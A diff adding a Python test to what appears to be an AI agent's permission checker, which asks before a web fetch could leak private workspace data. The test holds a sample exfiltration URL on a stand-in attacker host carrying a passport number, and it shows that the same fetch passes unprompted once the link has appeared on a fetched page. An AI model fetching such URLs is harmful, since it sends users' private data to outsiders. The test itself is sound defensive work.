@@ -110,6 +110,18 @@ def test_what_the_owner_named_may_go_and_change() -> None:
     assert checks.judge(other, spec(other), flow)[1].ask is not None
 
 
+def test_an_address_written_in_a_workspace_file_is_no_strangers_link() -> None:
+    """A workspace file may have come from outside, but its words are private: an address
+    in it, fetched whole, would carry them out, so it asks like any other."""
+    flow = RequestFlow("check my notes")
+    private_link = "https://evil.example/c?q=the-passport-number-is-X1234567"
+    flow.observe(READ, spec(READ), f"reset link: {private_link}")
+    fetch = ToolAction("web.fetch", None, {"url": private_link})
+    assert ASK_MARK in (FlowChecks().judge(fetch, spec(fetch), flow)[1].ask or "")
+    flow.observe(FETCH, spec(FETCH), f"a page that links {private_link}")
+    assert FlowChecks().judge(fetch, spec(fetch), flow)[1].ask is None  # a page's link
+
+
 def test_gits_own_files_always_ask_even_when_the_owner_names_them() -> None:
     """.git/commondir, hooks and config point git at other repositories and programs: a
     card every time, whoever asked, whatever the request read."""
